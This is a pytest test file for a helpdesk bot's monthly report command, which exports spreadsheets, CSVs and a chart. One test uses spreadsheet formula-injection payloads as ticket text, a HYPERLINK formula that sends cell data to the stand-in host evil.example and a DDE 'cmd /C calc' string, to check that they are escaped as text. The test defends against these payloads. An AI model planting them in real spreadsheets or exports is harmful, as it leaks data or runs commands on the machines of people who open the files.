"""`frontdesk report` writes the month's workbook, tickets and work log tables and chart,
and prints the summary."""

import asyncio
import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.cli.main import main
from bot.clock import MovableClock
from domain import Scope, SlaTier, StaffRole, TicketKind, WorkImpact
from domain.use_cases import accounts, employee_tickets, intake, staff_tickets
from storage import Database


async def october_history(
    path, description: str = "не печатает принтер", rating_comment: str | None = None
) -> int:
    clock = MovableClock(
        datetime(2026, 10, 5, 10, 0, tzinfo=ZoneInfo("Europe/Moscow")), ticking=False
    )
    db = await Database.open(path, clock=clock)
    async with db.unit_of_work() as uow:
        await accounts.add_staff(uow, clock, tg_id=1, name="Иван", role=StaffRole.FIRST_LINE)
        client = (
            await accounts.register_client(uow, clock, name="ООО Ромашка", tier=SlaTier.GOLD)
        ).value
        code = (await accounts.create_invite(uow, clock, client_id=client.id)).value.code
        await accounts.register_employee(uow, clock, code=code, tg_id=100, name="Анна")
        draft = intake.TicketDraft(
            description, TicketKind.INCIDENT, impact=WorkImpact.BLOCKED, scope=Scope.ME
        )
        ticket = (await intake.open_ticket(uow, clock, employee_tg_id=100, draft=draft)).value
        clock.advance(hours=2)  # Gold, High: 1 h to answer; answered an hour late
        await staff_tickets.take(uow, clock, ticket_id=ticket.number, staff_tg_id=1)
        clock.advance(hours=1)
        await staff_tickets.resolve(uow, clock, ticket_id=ticket.number, staff_tg_id=1)
        # closed in October: the month's report is of the tickets closed in it
        await employee_tickets.confirm_resolution(uow, clock, ticket_id=ticket.number, tg_id=100)
        if rating_comment is not None:
            await employee_tickets.rate(
                uow, clock, ticket_id=ticket.number, tg_id=100, score=1, comment=rating_comment
            )
        await uow.commit()
    await db.close()
    return client.id


@pytest.mark.parametrize("token", [None, "not a token"])
def test_report_for_a_month_is_written_to_files(tmp_path, monkeypatch, capsys, token):
    """No BOT_TOKEN needed (the report never talks to Telegram); the paths of the files
    written go to stdout, one a line, the summary to the person on stderr."""
    db_path = tmp_path / "frontdesk.db"
    client_id = asyncio.run(october_history(db_path))
    monkeypatch.chdir(tmp_path)  # no .env of the developer's
    if token is None:
        monkeypatch.delenv("BOT_TOKEN", raising=False)
    else:
        monkeypatch.setenv("BOT_TOKEN", token)
    monkeypatch.setenv("DATABASE_PATH", str(db_path))
    out = tmp_path / "out"
    with pytest.raises(SystemExit) as done:
        main(["report", "--client", str(client_id), "--month", "2026-10", "--out", str(out)])
    assert done.value.code == 0
    printed = capsys.readouterr()
    assert printed.out.splitlines() == [
        str(out / "report-2026-10.xlsx"),
        str(out / "report-2026-10-tickets.csv"),
        str(out / "report-2026-10-work-log.csv"),
        str(out / "report-2026-10.png"),
    ]
    assert "ООО Ромашка: отчёт за октябрь 2026" in printed.err
    assert "Нарушений SLA: 1, всего просрочено 1 рабочий час." in printed.err
    book = load_workbook(io.BytesIO((out / "report-2026-10.xlsx").read_bytes()))
    assert book["Нарушения"]["F2"].value == 1
    assert (out / "report-2026-10.png").read_bytes().startswith(b"\x89PNG")
    assert "не печатает принтер" in (out / "report-2026-10-tickets.csv").read_text("utf-8-sig")


def test_an_unknown_client_is_a_clear_error(tmp_path, monkeypatch, capsys):
    db_path = tmp_path / "frontdesk.db"
    asyncio.run(october_history(db_path))
    monkeypatch.setenv("BOT_TOKEN", "123456:TEST")
    monkeypatch.setenv("DATABASE_PATH", str(db_path))
    with pytest.raises(SystemExit) as done:
        main(["report", "--client", "99", "--out", str(tmp_path)])
    assert done.value.code == 2
    assert "unknown client id 99" in capsys.readouterr().err


def test_a_title_or_comment_shaped_like_a_formula_stays_text(tmp_path, monkeypatch):
    """Whatever an employee types comes out as text in both files, never as a live formula."""
    db_path = tmp_path / "frontdesk.db"
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
    comment = "+cmd|' /C calc'!A0"
    client_id = asyncio.run(october_history(db_path, title, rating_comment=comment))
    monkeypatch.setenv("BOT_TOKEN", "123456:TEST")
    monkeypatch.setenv("DATABASE_PATH", str(db_path))
    out = tmp_path / "out"
    with pytest.raises(SystemExit):
        main(["report", "--client", str(client_id), "--month", "2026-10", "--out", str(out)])
    book = load_workbook(io.BytesIO((out / "report-2026-10.xlsx").read_bytes()))
    cell = next(c for row in book["Закрытые в месяце"].iter_rows() for c in row if c.value == title)
    assert cell.data_type == "s" and cell.quotePrefix
    rating = book["Оценки"]["C2"]
    assert rating.value == comment and rating.data_type == "s" and rating.quotePrefix
    rows = list(
        csv.reader(
            io.StringIO((out / "report-2026-10-tickets.csv").read_text("utf-8-sig")), delimiter=";"
        )
    )
    assert rows[0][8] == "Заголовок" and rows[1][8] == "'" + title
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row)


@pytest.mark.parametrize("month", ["9999-12", "1999-12", "2026-13"])
def test_a_month_out_of_range_is_a_clear_error(tmp_path, monkeypatch, capsys, month):
    monkeypatch.setenv("BOT_TOKEN", "123456:TEST")
    monkeypatch.setenv("DATABASE_PATH", str(tmp_path / "frontdesk.db"))
    with pytest.raises(SystemExit) as done:
        main(["report", "--client", "1", "--month", month, "--out", str(tmp_path)])
    assert done.value.code == 2
    assert "the month is" in capsys.readouterr().err
